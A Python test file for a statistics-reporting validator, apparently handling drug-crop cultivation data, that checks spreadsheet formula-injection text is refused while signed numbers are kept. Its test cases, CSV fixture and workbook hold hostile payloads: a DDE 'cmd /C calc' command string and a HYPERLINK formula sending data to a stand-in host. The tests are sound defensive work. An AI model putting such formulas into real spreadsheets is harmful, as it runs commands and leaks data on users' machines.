"""Hostile input: text a spreadsheet would run as a formula is refused (``formula-like-text``) wherever no number is
expected, and never stored; signed numbers stay numbers, which the bounds judge."""

from io import BytesIO

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook

from observatory.reference.formula_text import TRIGGERS
from observatory.reporting.declaration import Field, ValueType, declaration
from observatory.reporting.validation import check_file
from observatory.reporting.validation.cells import Invalid, typed
from observatory.reporting.values import Meaning, NotApplicable, Observed, Value
from observatory.reporting.workbook import Cell
from tests.reference.test_formula_text import live

MARKERS = {"": Meaning.NOT_AVAILABLE, "..": Meaning.NOT_AVAILABLE, "-": Meaning.NOT_APPLICABLE}
CALC = "cmd|' /C calc'!A0"


def field(kind: ValueType, **extra: object) -> Field:
    return Field.model_validate({"id": "f", "title": "F", "type": kind, **extra})


@pytest.mark.parametrize(
    ("kind", "cell", "expected"),
    [
        (ValueType.TEXT, f"={CALC}", "formula-like-text"),
        (ValueType.TEXT, '+HYPERLINK("https://example.org/?leak","click")', "formula-like-text"),
        (ValueType.TEXT, f"-2+3+{CALC}", "formula-like-text"),
        (ValueType.TEXT, f"@SUM(1+1)*{CALC}", "formula-like-text"),
        (ValueType.TEXT, "\t=1+1", "formula-like-text"),
        (ValueType.TEXT, "\r=1+1", "formula-like-text"),
        (ValueType.TEXT, "\tsurvey", "formula-like-text"),
        (ValueType.TEXT, "   =1+1", "formula-like-text"),
        (ValueType.TEXT, "--", "formula-like-text"),
        (ValueType.YEAR, "=2023", "formula-like-text"),
        (ValueType.DATE, "=TODAY()", "formula-like-text"),
        (ValueType.TEXT, "-", NotApplicable("-")),  # a declared marker, read before anything else
        (ValueType.TEXT, " - ", NotApplicable(" - ")),
        (ValueType.TEXT, "-5", Observed("-5")),  # a plain number is no formula, in a text column too
        (ValueType.TEXT, "a=b", Observed("a=b")),
        (ValueType.TEXT, "15-64", Observed("15-64")),
        (ValueType.TEXT, "'=1+1", Observed("'=1+1")),
        (ValueType.NUMBER, "-5", Observed(-5.0)),
        (ValueType.NUMBER, -5.0, Observed(-5.0)),
        (ValueType.NUMBER, "+5", Observed(5.0)),
        (ValueType.NUMBER, " -1,234.5 ", Observed(-1234.5)),
        (ValueType.INTEGER, "-3", Observed(-3)),
        (ValueType.NUMBER, "=5", "not-a-number"),
        (ValueType.NUMBER, "@5", "not-a-number"),
        (ValueType.NUMBER, "=1+1", "not-a-number"),
    ],
)
def test_hostile_cells(kind: ValueType, cell: Cell, expected: Value | str) -> None:
    result = typed(field(kind), cell, MARKERS)
    if isinstance(expected, str):
        assert isinstance(result, Invalid) and result.code == expected
    else:
        assert result == expected


def test_a_listed_answer_with_a_sign_in_front_is_refused_as_a_formula() -> None:
    result = typed(field(ValueType.TEXT, levels=["coca bush", "opium poppy"]), "=opium poppy", MARKERS)
    assert isinstance(result, Invalid) and result.code == "formula-like-text"


@pytest.mark.parametrize(("cell", "sign"), [("=1", "'='"), ("+1+A1", "'+'"), ("\t=1", "a tab"), (" @x", "'@'")])
def test_the_message_names_the_value_and_the_first_character(cell: str, sign: str) -> None:
    result = typed(field(ValueType.TEXT), cell, MARKERS)
    assert isinstance(result, Invalid)
    assert result.message.startswith(f"{cell!r} starts with {sign}, which a spreadsheet may take for")
    assert result.message.endswith("begin the text with a letter or a digit instead")


HOSTILE_CSV = (
    "country,crop,year,best,low,high,notes,region\n"
    f'Mexico,opium poppy,2022,100,90,110,"={CALC}",-3\n'
    'Mexico,opium poppy,2021,-5,-,,-,"\t@SUM(1)"\n'
)


@pytest.mark.parametrize("columns", [True, False], ids=["columnar", "row-by-row"])
def test_a_file_with_formulas_in_free_text_columns_is_refused_cell_by_cell(columns: bool) -> None:
    outcome = check_file(HOSTILE_CSV.encode(), "mx.csv", declaration("cultivation"), columns=columns)
    assert [(p.code, p.row, p.column, p.value) for p in outcome.report.problems] == [
        ("formula-like-text", 2, "notes", f"={CALC}"),
        ("negative-quantity", 3, "best", "-5"),  # −5 is a number: the bounds refuse it, not the formula check
        ("formula-like-text", 3, "region", "\t@SUM(1)"),
    ]
    assert outcome.report.problems[0].message.startswith(f"Row 2, column 'notes': \"={CALC}\" starts with '='")
    first, second = outcome.records
    assert "notes" not in first.values and first.values["region"] == Observed("-3")
    assert second.values["notes"] == NotApplicable("-") and "region" not in second.values


def test_a_workbook_cell_of_text_that_looks_like_a_formula_is_refused() -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["country", "crop", "year", "best", "low", "high", "notes"])
    sheet.append(["Mexico", "opium poppy", 2022, 100, 90, 110, f"+HYPERLINK({CALC})"])
    sheet["G2"].data_type = "s"  # stored as text, as a focal point's workbook may hold it
    buffer = BytesIO()
    book.save(buffer)
    outcome = check_file(buffer.getvalue(), "mx.xlsx", declaration("cultivation"))
    (found,) = outcome.report.problems
    hostile = f"+HYPERLINK({CALC})"
    assert (found.code, found.row, found.column, found.value) == ("formula-like-text", 2, "notes", hostile)
    assert found.message.startswith(f"Sheet 'Sheet', row 2, column 'notes' (cell G2): {found.value!r} starts with")


@given(st.builds(lambda head, tail: head + tail, st.sampled_from(["", " ", *TRIGGERS]), st.text()))
def test_no_text_value_that_validation_keeps_can_start_a_formula(cell: str) -> None:
    result = typed(field(ValueType.TEXT), cell, MARKERS)
    if isinstance(result, Observed):
        assert not live(str(result.value))
